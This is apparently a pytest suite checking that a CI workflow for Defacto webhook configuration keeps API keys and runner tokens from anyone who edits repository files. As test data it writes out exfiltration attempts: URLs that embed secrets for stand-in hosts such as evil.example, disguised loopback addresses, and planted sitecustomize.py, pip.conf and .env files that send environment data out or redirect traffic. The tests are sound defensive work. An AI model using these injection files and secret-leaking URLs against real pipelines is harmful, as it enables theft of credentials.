"""Whoever may edit the repository's files, but not its workflows, gets none of its secrets."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

import pytest

from tests.answering import answering
from tests.ci.conftest import CANARIES, Repository, sha
from tests.ci.github_api import REPOSITORY
from tests.faulty_server.messages import Answer, Received, as_json
from tests.proxy import proxying

ANY = "0.0.0.0"  # noqa: S104 - asked, not bound to: it reaches this machine
# What a runner has besides, some of it in the environment of our step.
RUNNERS = {
    "GH_TOKEN": "C4naRy-gh",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "C4naRy-oidc",
    "ACTIONS_ID_TOKEN_REQUEST_URL": "https://oidc.test/C4naRy-url",
    "RUNNER_TRACKING_ID": "C4naRy-tracking",
}


class Elsewhere:
    """A server of somebody else, who would like to have a secret; `seen` is what came."""

    def __init__(self) -> None:
        self.seen: list[Received] = []
        self.port = ""

    def __call__(self, request: Received) -> Answer:
        self.seen.append(request)
        return as_json(200, {"count": 0, "page_size": 100, "data": []})


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    with answering(server) as url:
        server.port = url.rpartition(":")[2]
        yield server


def file(
    api_url: str, to_url: str = "https://hooks.example.com/", api_key: str = "${DEFACTO_API_KEY}"
) -> str:
    return json.dumps(
        {
            "version": 1,
            "environments": {"production": {"api_url": api_url, "api_key": api_key}},
            "webhooks": [{"name": "a", "to_url": to_url, "event_types": ["Loan.CLOSED"]}],
        }
    )


def nothing_left(repository: Repository, elsewhere: Elsewhere, text: str, code: str) -> None:
    """As a pull request and as a push; the fixture looks for secrets in all that was written."""
    repository.write(text)
    for ended in (repository.pull_request(), repository.merge(None), repository.schedule()):
        assert ended.failed
        assert code in ended.everything
        assert not [secret for secret in RUNNERS.values() if secret in ended.everything]
    assert elsewhere.seen == []
    assert repository.server.log == []
    assert repository.api.statuses.get("0" * 39 + "1", [{"state": "failure"}])[-1]["state"] == "failure"


@pytest.mark.parametrize(
    ("host", "code"),
    # Each reaches this machine, where the server listens, and none is written as this machine.
    [
        (ANY, "untrusted-host"),
        ("[::ffff:127.0.0.1]", "untrusted-host"),
        ("localhost.", "untrusted-host"),
        ("0x7f.1", "untrusted-host"),
        ("127.1", "invalid-url"),
    ],
)
def test_the_file_does_not_say_who_gets_the_key(
    repository: Repository, elsewhere: Elsewhere, host: str, code: str
) -> None:
    where = f"{host}:{elsewhere.port}"
    nothing_left(repository, elsewhere, file(f"https://{where}"), code)
    in_clear = code if code == "invalid-url" else "insecure-url"
    nothing_left(repository, elsewhere, file(f"http://{where}"), in_clear)


def test_the_workflow_does(repository: Repository, elsewhere: Elsewhere) -> None:
    repository.write(file(f"https://{ANY}:{elsewhere.port}"))
    assert repository.pull_request().failed == ["Validate"]
    variables = {**repository.runner.variables, "DEFACTO_WEBHOOKS_TRUSTED_HOSTS": ANY}
    repository.runner.variables = variables
    assert repository.pull_request().failed == ["Plan production"]  # it does not speak TLS


@pytest.mark.parametrize(
    "where", ["https://${DEFACTO_API_KEY}.evil.example/", "https://e.example/?k=${DEFACTO_API_KEY}"]
)
def test_the_key_is_in_no_url(repository: Repository, elsewhere: Elsewhere, where: str) -> None:
    nothing_left(repository, elsewhere, file(repository.server.url, where), "key-in-url")
    nothing_left(repository, elsewhere, file(where), "key-in-url")


WRITTEN_KEYS = ["an0ther-key", "an0ther-key${NOPE:-}", "an0ther${CI}", "${NOPE:-an0ther-key}", "${OWN}"]


@pytest.mark.parametrize("api_key", WRITTEN_KEYS)
def test_a_file_that_names_another_account_stops_the_job(repository: Repository, api_key: str) -> None:
    """Defacto is trusted, and anyone may have an account there, to which a plan only adds."""
    comment = "  # defacto-webhooks: ignore[literal-secret]"
    with proxying(answer=b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n") as proxy:
        repository.runner.variables = {**repository.runner.variables, "HTTPS_PROXY": proxy.url}
        for host in ("api-sandbox.getdefacto.com", "api.getdefacto.com/v1"):
            text = file(f"https://{host}", "https://evil.example/?k=${CALLBACK_TOKEN}", api_key)
            text = text.replace('"api_key"', '"variables": {"OWN": "an0ther-key"}, "api_key"')
            repository.write(text + comment)
            runs = (repository.pull_request(), repository.merge(None), repository.schedule())
            failed = [job for ended in runs for job in ended.failed]
            assert failed == ["Plan production", "Apply production", "Drift production"]
            assert all("has to come from a secret of the environment" in ended.log for ended in runs)
            assert not any("an0ther" in ended.everything for ended in runs)
    assert not proxy.received
    assert repository.api.issues == []
    assert "has to come from a secret of the environment" in repository.comment
    assert [status["state"] for status in repository.api.statuses[f"{1:040x}"]] == ["failure", "failure"]


@pytest.mark.parametrize("api_key", WRITTEN_KEYS)
def test_such_a_file_does_not_free_the_key_for_a_url(
    repository: Repository, elsewhere: Elsewhere, api_key: str
) -> None:
    url = "https://evil.example/?k=${DEFACTO_API_KEY}"
    nothing_left(repository, elsewhere, file("https://api.getdefacto.com", url, api_key), "key-in-url")


def test_a_key_for_this_machine_may_be_written(repository: Repository) -> None:
    repository.server.reset(key="an0ther-key")
    repository.write(file(repository.server.url, api_key="an0ther-key"))
    assert not repository.pull_request().failed


def test_a_file_without_environments_does_not_pass_by_the_workflow_s_list(repository: Repository) -> None:
    nameless = "version: 1\nwebhooks: []\n"
    url = f"DEFACTO_API_URL={repository.server.url}\n"
    repository.runner.secrets = {"WEBHOOKS_ENV": repository.runner.secrets["WEBHOOKS_ENV"] + url}
    repository.write(nameless)
    for ended in (repository.pull_request(), repository.merge(None), repository.schedule()):
        assert ended.failed == ["Validate"]
        assert "the file has no `environments:`" in ended.log
    repository.allow("")
    asked = repository.dispatch(environment="production", fingerprint="0" * 32)
    assert asked.failed == ["Validate"]
    assert repository.server.log == []
    planned = repository.pull_request()
    assert (list(planned.jobs), planned.failed) == (["Validate", "Plan default"], [])


def test_nor_where_a_job_names_its_environment(repository: Repository) -> None:
    url = f"DEFACTO_API_URL={repository.server.url}\n"
    repository.runner.secrets = {"WEBHOOKS_ENV": repository.runner.secrets["WEBHOOKS_ENV"] + url}
    repository.allow("")
    text = repository.workflow.read_text()
    fixed = text.replace(
        "environment: ${{ matrix.environment }}\n          env", "environment: production\n          env"
    )
    assert fixed != text
    repository.workflow.write_text(fixed)
    repository.write("version: 1\nwebhooks: []\n")
    ended = repository.pull_request()
    assert ended.failed == ["Plan default"]
    assert "the file has no `environments:`" in ended.log
    assert repository.server.log == []


@pytest.mark.parametrize(
    "name", [*RUNNERS, "GITHUB_TOKEN", "INPUT_GITHUB_TOKEN", "INPUT_ENV_FILE", "GITHUB_SHA"]
)
def test_the_runner_s_names_are_nobody_s_variables(
    repository: Repository, elsewhere: Elsewhere, name: str
) -> None:
    repository.runner.variables = {**repository.runner.variables, **RUNNERS}
    url = f"https://hooks.example.com/?t=${{{name}}}"
    nothing_left(repository, elsewhere, file(repository.server.url, url), "reserved-variable")
    nothing_left(
        repository, elsewhere, file(repository.server.url, api_key=f"${{{name}}}"), "reserved-variable"
    )


def test_a_token_that_is_sent_elsewhere_is_shown_to_the_reviewers_and_hidden_in_itself(
    repository: Repository, elsewhere: Elsewhere
) -> None:
    """Nobody but the reviewers can tell whether that host should have it: a direct push could add as much."""
    repository.write(file(repository.server.url, "https://evil.example/x?t=${CALLBACK_TOKEN}"))
    assert not repository.pull_request().failed
    assert "evil.example/x?t=&#42;&#42;&#42;" in repository.comment
    assert elsewhere.seen == []


@pytest.mark.parametrize(
    ("event", "ref", "head", "base"),
    [
        ("push", "refs/heads/feature", None, "main"),
        ("push", "refs/tags/main", None, "main"),
        ("issue_comment", "refs/heads/main", None, "main"),
        ("pull_request_target", "refs/heads/main", "mallory/hooks", "main"),
        ("pull_request_target", "refs/heads/main", REPOSITORY, "main"),
        ("pull_request", "refs/pull/7/merge", "mallory/hooks", "main"),
        ("pull_request", "refs/pull/7/merge", REPOSITORY, "feature"),
    ],
)
def test_a_workflow_that_asks_for_it_elsewhere_is_refused(
    repository: Repository, event: str, ref: str, head: str | None, base: str
) -> None:
    """Somebody's own workflow: without the conditions of ours, and with the secrets."""
    text = re.sub(r"next == '\w+'", "next != ''", repository.workflow.read_text())
    repository.workflow = repository.runner.temporary / "webhooks.yml"
    repository.workflow.write_text(
        text.replace("  pull_request:", f"  {event}:", 1) if event != "push" else text
    )
    repository.write(file(repository.server.url))
    pull_request = {"number": 7, "head": {"sha": sha(1), "repo": {"full_name": head}}, "base": {"ref": base}}
    payload = {"repository": {"full_name": REPOSITORY, "default_branch": "main"}}
    repository.api.heads = {"pull/7": sha(1), "main": sha(2), "feature": sha(2), "refs/tags/main": sha(2)}
    ended = repository.runner.run(
        repository.workflow,
        event,
        {**payload, "pull_request": pull_request, "number": 7} if head else payload,
        ref=ref,
        sha=sha(2),
    )
    assert set(ended.failed) == {"Apply production", *(["Plan production"] if head else [])}
    assert repository.writes() == []
    assert (repository.api.comments, repository.api.statuses) == ({}, {})


def test_files_of_the_checkout_are_data(repository: Repository, elsewhere: Elsewhere) -> None:
    """None of them is imported, and none is read but the one that is asked for."""
    workspace = repository.runner.workspace
    url = f"http://127.0.0.1:{elsewhere.port}/?"
    program = f"import os, urllib.request as u; u.urlopen({url!r} + os.environ['PATH'])"
    for name in (
        "sitecustomize.py",
        "usercustomize.py",
        "httpx.py",
        "defacto_webhooks.py",
        "venv.py",
        "pip.py",
    ):
        (workspace / name).write_text(program)
    (workspace / ".env").write_text(f"DEFACTO_API_KEY=x\nHTTPS_PROXY=http://127.0.0.1:{elsewhere.port}\n")
    (workspace / "pip.conf").write_text(f"[global]\nindex-url = http://127.0.0.1:{elsewhere.port}\n")
    repository.write(file(repository.server.url))
    assert not repository.pull_request().failed
    assert elsewhere.seen == []
    assert CANARIES["DEFACTO_API_KEY"] in str([request.authorization for request in repository.server.log])
